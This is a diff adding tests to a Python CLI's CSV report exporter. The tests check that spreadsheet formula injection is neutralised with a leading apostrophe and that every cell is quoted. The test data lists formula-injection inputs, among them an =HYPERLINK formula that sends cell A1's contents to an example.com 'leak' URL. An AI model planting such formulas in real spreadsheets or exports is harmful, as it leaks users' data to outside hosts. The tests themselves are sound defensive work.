@@ -282,4 +282,36 @@ async def test_the_report_reads_postgresql_too(postgres_url, tmp_path, monkeypat
     monkeypatch.setenv("DATABASE_URL", postgres_url)
     code = await asyncio.to_thread(cli.main, ["report", "--format", "csv"])
     assert code == 0
-    assert "unanswered,how is the weather,1" in capsys.readouterr().out
+    assert '"unanswered","how is the weather","1"' in capsys.readouterr().out
+
+
+FORMULAS = [
+    '=HYPERLINK("https://example.com/?leak="&A1,"click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_csv_cells_never_start_like_a_formula():
+    """Questions are stored as typed; in the CSV, one that a spreadsheet would run (OWASP's
+    list: = + - @ tab CR) starts with an apostrophe instead, and reads back otherwise intact."""
+    answers = [declined(i, text) for i, text in zip(ids(len(FORMULAS)), FORMULAS, strict=True)]
+    report = build_report(answers, [], since=NOW - DAY, until=NOW + 1)
+    rows = list(csv.reader(io.StringIO(render(report, "csv"))))
+    cells = [cell for row in rows for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    neutralised = [cell for cell in cells if cell.startswith("'")]
+    assert "'" + FORMULAS[0] in neutralised  # the link, whole, as text
+    assert len(neutralised) >= 4  # every question's group, whichever were merged
+    assert all(cell[1:].startswith(("=", "+", "-", "@", "\t", "\r")) for cell in neutralised)
+
+
+def test_every_csv_cell_is_quoted():
+    """Quoted cells: a comma or a quote inside a question cannot open a new cell."""
+    report = build_report([declined(ids(1)[0], 'a,"=1+1"')], [], since=NOW - DAY, until=NOW + 1)
+    for line in render(report, "csv").splitlines():
+        assert line.startswith('"')
+        assert line.endswith('"')
